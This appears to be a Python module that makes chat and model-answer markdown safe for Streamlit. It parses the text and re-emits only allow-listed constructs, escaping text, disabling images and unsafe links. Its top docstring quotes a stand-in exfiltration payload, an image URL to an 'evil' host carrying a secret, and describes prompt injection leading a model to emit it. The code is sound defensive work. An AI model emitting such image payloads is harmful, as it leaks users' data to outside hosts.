"""Markdown from stored messages and model answers, made safe to hand to st.markdown.

Chat text is hostile input: an answer written under prompt injection can hold
`![x](http://evil/p.png?d=SECRET)`, which the browser fetches the moment it is drawn, and
Streamlit's renderer (react-markdown with remark-gfm, plus Streamlit's own `:material/icon:`,
`:red[text]`, `:streamlit:`, `$math$` and mermaid extensions) has far more constructs than a
filter could list. So nothing is filtered: the text is parsed with markdown-it-py (CommonMark
plus GFM tables and strikethrough) and the token tree is written back out as new markdown by
an allow-list serializer. It emits only paragraphs, headings, block quotes, lists, code blocks,
thematic breaks, tables, emphasis, strong, strikethrough, code spans, line breaks, and links to
absolute http(s) or mailto URLs (with the host shown beside them). Every piece of text is
re-emitted with each ASCII punctuation character backslash-escaped, so react-markdown can find
no construct in it that this module did not write on purpose; images become visible text
naming the file and its host, and links anywhere else become inert text. A few of Streamlit's
extensions work on the parsed text rather than the source (GFM's bare-URL and e-mail links,
`:material_icon:`, `:streamlit:`), where escapes are gone; for those an invisible WORD JOINER
(U+2060) is put inside the trigger so the pattern cannot match.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from functools import lru_cache
from urllib.parse import unquote

from markdown_it import MarkdownIt
from markdown_it.token import Token


def _accept_every_link(url: str) -> bool:
    """markdown-it's own check turns `[a](javascript:x)` back into the source text; accepting
    everything gives the serializer one place to decide, and a consistent "text (url)" look."""
    return True


_MD = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
_MD.validateLink = _accept_every_link  # type: ignore[method-assign]

# ASCII punctuation: CommonMark lets a backslash escape every one of these.
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
# Control characters would end a line (line feed) or be lost; a tab inside a line is kept,
# since as a reference it would stop counting as whitespace next to `*` (and _edges handles
# one at the start or end of a line).
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")
_TEXT_CONTROL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")
# Places where an invisible WORD JOINER goes, because a plugin would otherwise act on the
# unescaped text: remark-gfm links `http://`, `www.` and e-mail addresses in text; Streamlit
# turns `:material_name:` into an icon and `:streamlit:` into an <img>.
_JOINER = "\u2060"
_JOINER_AT = re.compile(
    r"(?i)(?<=https:)(?=//)|(?<=http:)(?=//)|(?<=www)(?=\.)|(?<=@)(?=[-\w])"
    r"|(?<=:)(?=(?:material_\w+|streamlit):)"
)
_BACKTICKS = re.compile(r"`+")
# Bare http(s) URLs in text, made into links by this module (never by remark-gfm).
_BARE_URL = re.compile(r"(?i)(?<![A-Za-z0-9+.-])https?://[^\s<>]+")
_URL_TRAILER = ".,;:!?)]'\""
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
_WEB_URL = re.compile(r"(?i)https?://")
_INFO_CHARS = re.compile(r"[^A-Za-z0-9_+.#-]")
_WORD = re.compile(r"[A-Za-z0-9_]+")
# Fence languages that Streamlit draws as something other than code: mermaid becomes a chart
# (which can load images) and math becomes KaTeX.
_ACTIVE_LANGUAGES = frozenset({"mermaid", "math"})
_ALIGNMENT = {"text-align:left": ":---", "text-align:right": "---:", "text-align:center": ":---:"}
_NAME_LIMIT = 80


@lru_cache(maxsize=256)  # every rerun redraws the whole conversation; parsing is the cost
def safe_markdown(text: str) -> str:
    """`text` as markdown for st.markdown that, when drawn, fetches nothing and runs nothing:
    its block structure, emphasis, code and http(s)/mailto links kept, every image shown as a
    named link to click on purpose, and everything else shown as the literal text it is.

    It never raises: should the serializer fail on some input, the text is shown fully
    escaped instead, one paragraph per run of lines."""
    try:
        return _render(text)
    except Exception:
        return _plain(text)


def url_host(url: str) -> str:
    """The host an absolute URL points at, as a reader should see it ("" if it has none):
    `docs.python.org` for `https://docs.python.org/3/`, the domain for `mailto:a@b.org`.
    The user name in `https://good.com@evil.com/` is dropped, so the host shown is evil.com."""
    url = url.strip()
    scheme = _SCHEME.match(url)
    if scheme is None:
        return ""
    rest = url[scheme.end() :]
    if scheme.group(1).lower() == "mailto":
        domains: list[str] = []
        for address in unquote(rest.split("?", 1)[0]).split(","):
            domain = address.rpartition("@")[2].strip().lower() if "@" in address else ""
            if domain and domain not in domains:
                domains.append(domain)
        return ", ".join(domains)
    if not rest.startswith("//"):
        return ""
    authority = re.split(r"[/?#\\]", rest[2:], maxsplit=1)[0]
    return unquote(authority.rpartition("@")[2]).lower()


def _render(text: str) -> str:
    """The allow-list serialization: parse, then write out only the constructs listed above."""
    root = _tree(_MD.parse(text))
    return "\n".join(_join_blocks([_block(child) for child in root.children], blank=True))


def _plain(text: str) -> str:
    """`text` with nothing in it treated as markdown: each run of lines one paragraph."""
    paragraphs, lines = [], []
    for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        if line.strip():
            lines.append(_edges(_escape(line.strip())))
        elif lines:
            paragraphs.append("\n".join(lines))
            lines = []
    if lines:
        paragraphs.append("\n".join(lines))
    return "\n\n".join(paragraphs)


# Text ---------------------------------------------------------------------------------------


def escape_text(text: str) -> str:
    """`text` as markdown that shows exactly `text` and nothing else (for a label or a title:
    no construct of its own at all, not even a bare URL made a link)."""
    return _escape(text)


def _escape(text: str) -> str:
    """`text` as markdown that shows exactly `text`: every ASCII punctuation mark escaped,
    control characters written as character references, joiners where a plugin would look."""
    text = _JOINER_AT.sub(_JOINER, text)
    text = _PUNCTUATION.sub(r"\\\1", text)
    return _TEXT_CONTROL.sub(lambda match: _reference(match.group()), text)


def _reference(char: str) -> str:
    """`char` as a numeric character reference: the same character, but not whitespace to
    the parser (so it cannot indent a line, end an emphasis, or make a hard break)."""
    return f"&#{ord(char)};"


def _edges(line: str) -> str:
    """`line` (already markdown) with a leading or trailing whitespace character written as a
    reference: at the start of a line spaces would make a code block (and are stripped
    anyway); at the end two of them would make a hard break."""
    if line[:1].isspace():
        line = _reference(line[0]) + line[1:]
    if line[-1:].isspace():
        line = line[:-1] + _reference(line[-1])
    return line


def _fix_lines(markdown: str) -> list[str]:
    """Inline markdown split into lines, each made safe at its edges."""
    return [_edges(line) for line in markdown.split("\n")]


# URLs ---------------------------------------------------------------------------------------


def _is_link_target(href: str) -> bool:
    """Only absolute http(s) URLs with a host, and mailto, may stay links: an allow-list, so
    `JaVaScRiPt:`, `%20javascript:`, `data:`, `//host` and relative paths all fail it."""
    if href[:7].lower() == "mailto:":
        return True
    return _WEB_URL.match(href) is not None and url_host(href) != ""


def _destination(href: str) -> str:
    """`href` for inside `<...>`: characters that would end the destination, escape
    something, or open a code span or math are percent-encoded, and `&` is escaped so an
    entity-like run stays as written. `:material/` is broken up because Streamlit rewrites
    that substring anywhere in the source."""
    encoded = []
    for char in href:
        if char in "<>\\ |`$" or char.isspace() or _CONTROL.match(char):
            encoded.append("".join(f"%{byte:02X}" for byte in char.encode("utf-8", "replace")))
        elif char == "&":
            encoded.append("\\&")
        else:
            encoded.append(char)
    return "".join(encoded).replace(":material/", "%3Amaterial/")


def _shown_url(href: str) -> str:
    """`href` as a reader should read it (percent-escapes and punycode decoded)."""
    try:
        return _MD.normalizeLinkText(href)
    except Exception:
        return href


def _has_user_info(href: str) -> bool:
    """True if the URL's authority has a `user@` part, which makes its text misleading."""
    if _WEB_URL.match(href) is None:
        return False
    authority = re.split(r"[/?#\\]", href.split("//", 1)[1], maxsplit=1)[0]
    return "@" in authority


def _file_name(url: str) -> str:
    """The last path segment of `url` (what a reader would call the file), or the scheme
    for URLs that have no path worth showing (data:, javascript:)."""
    scheme = _SCHEME.match(url.strip())
    if scheme and scheme.group(1).lower() not in ("http", "https"):
        return f"{scheme.group(1).lower()} URL"
    path = re.split(r"[?#]", url, maxsplit=1)[0]
    if _WEB_URL.match(path):
        path = path.split("//", 1)[1].partition("/")[2]
    name = unquote(path.rstrip("/").rpartition("/")[2])
    return name if len(name) <= _NAME_LIMIT else name[: _NAME_LIMIT - 1] + "…"


# Inline -------------------------------------------------------------------------------------


@dataclass
class _Piece:
    """Part of a line being built: raw text (escaped later, merged with its raw neighbours so
    that the joiners see what react-markdown's plugins will see) or finished markdown."""

    value: str
    raw: bool


@dataclass
class _Frame:
    """An open link: its text is collected here until the link closes."""

    href: str
    pieces: list[_Piece] = field(default_factory=list)
    plain: list[str] = field(default_factory=list)


class _Inline:
    """Writes one inline token list back out as markdown."""

    def __init__(self, *, in_table: bool = False, soft_break: str = "\n") -> None:
        self.in_table = in_table
        self.soft_break = soft_break
        self.hard_breaks = 0
        self.root = _Frame("")
        self.links: list[_Frame] = []
        self.after_opener = False

    @property
    def top(self) -> _Frame:
        return self.links[-1] if self.links else self.root

    def md(self, value: str) -> None:
        self.top.pieces.append(_Piece(value, raw=False))
        self.after_opener = False

    def raw(self, value: str) -> None:
        """Text; right after an emphasis opener a leading space (only possible from an
        entity) is written as a reference, or the opener would stop being one."""
        if not value:
            return
        if self.after_opener and value[0].isspace():
            self.top.pieces.append(_Piece(_reference(value[0]), raw=False))
            value = value[1:]
        self.after_opener = False
        if value:
            self.top.pieces.append(_Piece(value, raw=True))

    def close_delimiter(self, markup: str) -> None:
        """The closer, with a trailing space before it written as a reference (see raw)."""
        pieces = self.top.pieces
        if pieces and pieces[-1].raw and pieces[-1].value[-1:].isspace():
            last = pieces.pop()
            if last.value[:-1]:
                pieces.append(_Piece(last.value[:-1], raw=True))
            pieces.append(_Piece(_reference(last.value[-1]), raw=False))
        self.md(markup)

    def render(self, tokens: list[Token]) -> str:
        for token in tokens:
            self.token(token)
        while self.links:  # markdown-it always closes links; never leave one open regardless
            self.link_close()
        return _flush(self.root.pieces)

    def token(self, token: Token) -> None:
        kind = token.type
        if kind == "text":
            self.top.plain.append(token.content)
            self.text(token.content)
        elif kind == "code_inline":
            self.top.plain.append(token.content)
            self.md(_code_span(token.content, in_table=self.in_table))
        elif kind == "softbreak":
            self.top.plain.append(" ")
            self.md(self.soft_break)
        elif kind == "hardbreak":
            self.top.plain.append(" ")
            self.hard_breaks += 1
            self.md("\\\n" if self.soft_break == "\n" else self.soft_break)
        elif kind in ("em_open", "strong_open", "s_open"):
            self.md(token.markup or {"em_open": "*", "strong_open": "**"}.get(kind, "~~"))
            self.after_opener = True
        elif kind in ("em_close", "strong_close", "s_close"):
            self.close_delimiter(
                token.markup or {"em_close": "*", "strong_close": "**"}.get(kind, "~~")
            )
        elif kind == "link_open":
            self.links.append(_Frame(str(token.attrGet("href") or "")))
        elif kind == "link_close":
            if self.links:
                self.link_close()
        elif kind == "image":
            self.image(token)
        else:  # anything not on the allow-list is shown as the text it holds
            self.top.plain.append(token.content)
            self.raw(token.content)

    def text(self, text: str) -> None:
        """Text, with bare http(s) URLs made into links (outside links only). A URL right
        after `](` is the tail of an unfinished link or image (while an answer streams) and
        stays text, so it turns into a link only once the whole construct is there."""
        if self.links:
            self.raw(text)
            return
        start = 0
        for match in _BARE_URL.finditer(text):
            url = _trim_url(match.group())
            href = _normalize(url)
            before = text[: match.start()]
            if before.endswith(("](", "](<")) or not _is_link_target(href):
                continue
            self.raw(text[start : match.start()])
            self.pieces_extend(_link_pieces(href, [_Piece(url, raw=True)], url))
            start = match.start() + len(url)
        self.raw(text[start:])

    def pieces_extend(self, pieces: list[_Piece]) -> None:
        for piece in pieces:
            if piece.raw:
                self.raw(piece.value)
            else:
                self.md(piece.value)

    def link_close(self) -> None:
        frame = self.links.pop()
        plain = "".join(frame.plain)
        self.top.plain.append(plain)
        if self.links:  # a link inside a link cannot be drawn as one: keep its text only
            self.pieces_extend(frame.pieces)
        elif _is_link_target(frame.href):
            self.pieces_extend(_link_pieces(frame.href, frame.pieces, plain))
        else:
            shown = _shown_url(frame.href)
            if frame.pieces and plain.strip() != shown:
                self.pieces_extend([*frame.pieces, _Piece(f" ({shown})", raw=True)])
            elif frame.pieces:
                self.pieces_extend(frame.pieces)
            elif shown:
                self.raw(f"({shown})")

    def image(self, token: Token) -> None:
        """An image is never drawn: it becomes text naming the file and its host, a link the
        user may follow on purpose when the URL is http(s). Inside a link (which cannot hold
        another link) and for any other URL it is text only."""
        src = str(token.attrGet("src") or "")
        alt = _plain_text(token.children or [])
        label = f'image "{alt}"' if alt.strip() else "image"
        name = _file_name(src)
        host = url_host(src) if _WEB_URL.match(src) else ""
        described = f"{label}: {name}" if name else label
        self.top.plain.append(described)
        if host and not self.links and _is_link_target(src):
            self.md(f"[{_escape(f'{described} from {host}')}](<{_destination(src)}>)")
        else:
            self.raw(f"{described} from {host}" if host else described)


def _link_pieces(href: str, text: list[_Piece], plain: str) -> list[_Piece]:
    """`[text](<href>)` followed by `(host)`, unless the text already is the URL or the
    host (and the URL has no `user@`, which would make the text lie about the host)."""
    host = url_host(href)
    pieces = [_Piece("[", raw=False), *text, _Piece(f"](<{_destination(href)}>)", raw=False)]
    shown = plain.strip()
    same = {href, _shown_url(href)}
    if href[:7].lower() == "mailto:":
        same |= {href[7:], unquote(href[7:])}
    if host and shown.lower() != host and (shown not in same or _has_user_info(href)):
        pieces.append(_Piece(f" ({host})", raw=True))
    return pieces


def _flush(pieces: list[_Piece]) -> str:
    """The pieces as markdown, each run of raw text escaped as one string."""
    out, run = [], []
    for piece in pieces:
        if piece.raw:
            run.append(piece.value)
            continue
        if run:
            out.append(_escape("".join(run)))
            run = []
        out.append(piece.value)
    if run:
        out.append(_escape("".join(run)))
    return "".join(out)


def _plain_text(tokens: list[Token]) -> str:
    """What an image's alt text says, as plain text."""
    parts = []
    for token in tokens:
        if token.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif token.type == "image":
            parts.append(_plain_text(token.children or []))
        else:
            parts.append(token.content)
    return "".join(parts)


def _trim_url(url: str) -> str:
    """A bare URL without the punctuation that ends the sentence around it; a closing
    parenthesis stays when it closes one opened in the URL (Wikipedia's `Foo_(bar)`)."""
    while url and url[-1] in _URL_TRAILER:
        if url[-1] == ")" and url.count("(") >= url.count(")"):
            break
        url = url[:-1]
    return url


def _normalize(url: str) -> str:
    """A URL found in text, encoded the way markdown-it encodes link destinations."""
    try:
        return _MD.normalizeLink(url)
    except Exception:
        return ""


def _code_span(content: str, *, in_table: bool) -> str:
    """A code span showing `content` verbatim: its fence is longer than any backtick run in
    it, and it is padded with a space when it starts or ends with a backtick or a space (one
    space each side is stripped again). In a table cell `|` would end the cell, so it is
    escaped, which GFM undoes inside code in cells."""
    if in_table:
        content = content.replace("|", "\\|")
    runs = [len(run) for run in _BACKTICKS.findall(content)]
    fence = "`" * (max(runs, default=0) + 1)
    if content.strip(" ") and (content[0] in " `" or content[-1] in " `"):
        content = f" {content} "
    return f"{fence}{content}{fence}"


# Blocks -------------------------------------------------------------------------------------


@dataclass
class _Node:
    """A block token with the tokens between it and its closing token as children."""

    token: Token | None
    children: list[_Node] = field(default_factory=list)


def _tree(tokens: list[Token]) -> _Node:
    """markdown-it's flat block tokens as a tree (built without recursion)."""
    root = _Node(None)
    stack = [root]
    for token in tokens:
        if token.nesting == 1:
            node = _Node(token)
            stack[-1].children.append(node)
            stack.append(node)
        elif token.nesting == -1:
            if len(stack) > 1:
                stack.pop()
        else:
            stack[-1].children.append(_Node(token))
    return root


def _join_blocks(blocks: list[list[str]], *, blank: bool) -> list[str]:
    """Blocks' lines one after another, a blank line between blocks when `blank`."""
    lines: list[str] = []
    for block in blocks:
        if not block:
            continue
        if lines and blank:
            lines.append("")
        lines.extend(block)
    return lines


def _block(node: _Node) -> list[str]:
    """The lines of one block; anything not on the allow-list becomes escaped text."""
    token = node.token
    if token is None:
        return _join_blocks([_block(child) for child in node.children], blank=True)
    kind = token.type
    if kind == "paragraph_open":
        return _inline_lines(node)
    if kind == "heading_open":
        return _heading(node)
    if kind == "blockquote_open":
        lines = _join_blocks([_block(child) for child in node.children], blank=True)
        return [f"> {line}" if line else ">" for line in lines] or [">"]
    if kind in ("bullet_list_open", "ordered_list_open"):
        return _list(node)
    if kind == "table_open":
        return _table(node)
    if kind in ("fence", "code_block"):
        return _fence(token.content, token.info if kind == "fence" else "")
    if kind == "hr":
        return ["___"]  # never a setext underline, never a list item
    if kind == "inline":
        return _fix_lines(_Inline().render(token.children or []))
    if node.children:
        return _join_blocks([_block(child) for child in node.children], blank=True)
    return [_edges(_escape(line.strip())) for line in token.content.split("\n") if line.strip()]


def _inline_of(node: _Node) -> list[Token]:
    """The inline tokens of a paragraph, heading or table cell."""
    for child in node.children:
        if child.token is not None and child.token.type == "inline":
            return child.token.children or []
    return []


def _inline_lines(node: _Node) -> list[str]:
    markdown = _Inline().render(_inline_of(node))
    return _fix_lines(markdown) if markdown else []


def _heading(node: _Node) -> list[str]:
    """ATX (`## x`), a soft line break written as a line feed reference (the same text).
    Only a level 1 or 2 heading (from a setext one) can hold a hard break, and only the
    setext form can write one; `---` under a line holding `|` would make a one-column table
    for markdown-it, so there the break is written as a line feed too."""
    assert node.token is not None
    level = int(node.token.tag[1:]) if node.token.tag[1:].isdigit() else 1
    inline = _Inline(soft_break="&#10;")
    markdown = inline.render(_inline_of(node))
    if inline.hard_breaks and level <= 2:
        lines = _fix_lines(_Inline().render(_inline_of(node)))
        if level == 1 or "|" not in lines[-1]:
            return [*lines, "===" if level == 1 else "---"]
    markdown = _edges(markdown)
    return ["#" * level + (f" {markdown}" if markdown else "")]


def _list(node: _Node) -> list[str]:
    """A list: markers kept (two lists differ only by their marker), the start number kept,
    and tight kept tight. A list with no paragraphs directly in its items looks the same
    either way, so it is written loose, where blocks cannot run into one another."""
    assert node.token is not None
    ordered = node.token.type == "ordered_list_open"
    items = [c for c in node.children if c.token is not None and c.token.type == "list_item_open"]
    paragraphs = [
        child.token
        for item in items
        for child in item.children
        if child.token is not None and child.token.type == "paragraph_open"
    ]
    tight = bool(paragraphs) and all(token.hidden for token in paragraphs)
    start = _start(node.token) if ordered else 0
    blocks = []
    for number, item in enumerate(items, start=start):
        if ordered:
            marker = f"{number}{node.token.markup if node.token.markup in ('.', ')') else '.'}"
        else:
            marker = node.token.markup if node.token.markup in ("-", "*", "+") else "-"
        lines = _join_blocks([_block(child) for child in item.children], blank=not tight)
        if not lines:
            blocks.append([marker])
            continue
        indent = " " * (len(marker) + 1)
        blocks.append(
            [f"{marker} {lines[0]}", *(f"{indent}{line}" if line else "" for line in lines[1:])]
        )
    return _join_blocks(blocks, blank=not tight)


def _start(token: Token) -> int:
    start = token.attrGet("start")
    try:
        return int(start) if start is not None else 1
    except (TypeError, ValueError):
        return 1


def _table(node: _Node) -> list[str]:
    """A GFM table: header row, delimiter row with the alignments, body rows."""
    rows: list[list[tuple[str, str]]] = []
    for section in node.children:
        for row in section.children:
            cells = []
            for cell in row.children:
                if cell.token is None:
                    continue
                markdown = _edges(_Inline(in_table=True, soft_break=" ").render(_inline_of(cell)))
                cells.append((markdown, str(cell.token.attrGet("style") or "")))
            if cells:
                rows.append(cells)
    if not rows:
        return []
    width = len(rows[0])
    lines = [_row([text for text, _ in rows[0]])]
    lines.append(_row([_ALIGNMENT.get(style, "---") for _, style in rows[0]]))
    for row in rows[1:]:
        texts = [text for text, _ in row][:width]
        lines.append(_row(texts + [""] * (width - len(texts))))
    return lines


def _row(cells: list[str]) -> str:
    return "| " + " | ".join(cells) + " |"


def _fence(content: str, info: str) -> list[str]:
    """A fenced code block showing `content` verbatim: a backtick fence longer than any
    backtick run inside (so no line can close it early), and only a plain language name
    kept from the info string (never one Streamlit would draw as a chart or as math)."""
    runs = [len(run) for run in _BACKTICKS.findall(content)]
    fence = "`" * max(3, max(runs, default=0) + 1)
    words = info.split()
    language = _INFO_CHARS.sub("", words[0]) if words else ""
    word = _WORD.match(language)
    if word and word.group().lower() in _ACTIVE_LANGUAGES:
        language = ""
    # Each line of the content ends with a line feed (the last one may lack it at the end of
    # the text); "\n" alone is one blank line, "" none at all.
    body = content.removesuffix("\n").split("\n") if content else []
    return [fence + language, *body, fence]
